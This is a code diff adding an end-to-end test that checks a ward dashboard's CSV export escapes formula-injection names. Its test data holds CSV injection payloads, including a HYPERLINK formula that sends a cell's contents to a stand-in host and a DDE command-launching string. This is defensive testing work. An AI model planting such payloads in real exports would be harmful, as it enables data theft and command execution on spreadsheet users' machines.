@@ -196,4 +196,22 @@ describe('the ward maturity dashboard', () => {
     await page.screenshot({ path: `${SHOTS}/dashboard-drafts.png` });
     await page.context().close();
   });
+
+  it('writes cells a spreadsheet would run as a formula as text (a name starting with =, +, - or @)', async () => {
+    // A ward renamed by a hostile or careless import: the CSV must not hand a spreadsheet a formula to run.
+    const names = ['=HYPERLINK("https://evil.example/?x="&A1,"Phường")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
+    const codes = (await b.ctx.db.raw.query<{ code: string }>(`SELECT code FROM admin_unit WHERE level = 'WARD' AND valid_to IS NULL AND province_code = '79' AND code <> $1 ORDER BY code LIMIT 4`, [WARD])).map((r) => r.code);
+    const before = await b.ctx.db.raw.query<{ code: string; full_name: string }>(`SELECT code, full_name FROM admin_unit WHERE code = ANY ($1::text[]) AND valid_to IS NULL`, [codes]);
+    try {
+      for (const [i, code] of codes.entries()) await b.ctx.db.raw.query(`UPDATE admin_unit SET full_name = $1 WHERE code = $2 AND valid_to IS NULL`, [names[i], code]);
+      const { page } = await openDashboard();
+      const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-csv').click()]);
+      const records = parse(readFileSync((await download.path())!), { bom: true, columns: true }) as Record<string, string>[];
+      for (const [i, code] of codes.entries()) expect(records.find((r) => r['Mã'] === code)!['Tên']).toBe(`'${names[i]}`);
+      // Numbers stay numbers: a negative figure is not a formula.
+      expect(records.every((r) => !String(r['Số trường']).startsWith("'"))).toBe(true);
+    } finally {
+      for (const r of before) await b.ctx.db.raw.query(`UPDATE admin_unit SET full_name = $1 WHERE code = $2 AND valid_to IS NULL`, [r.full_name, r.code]);
+    }
+  });
 });
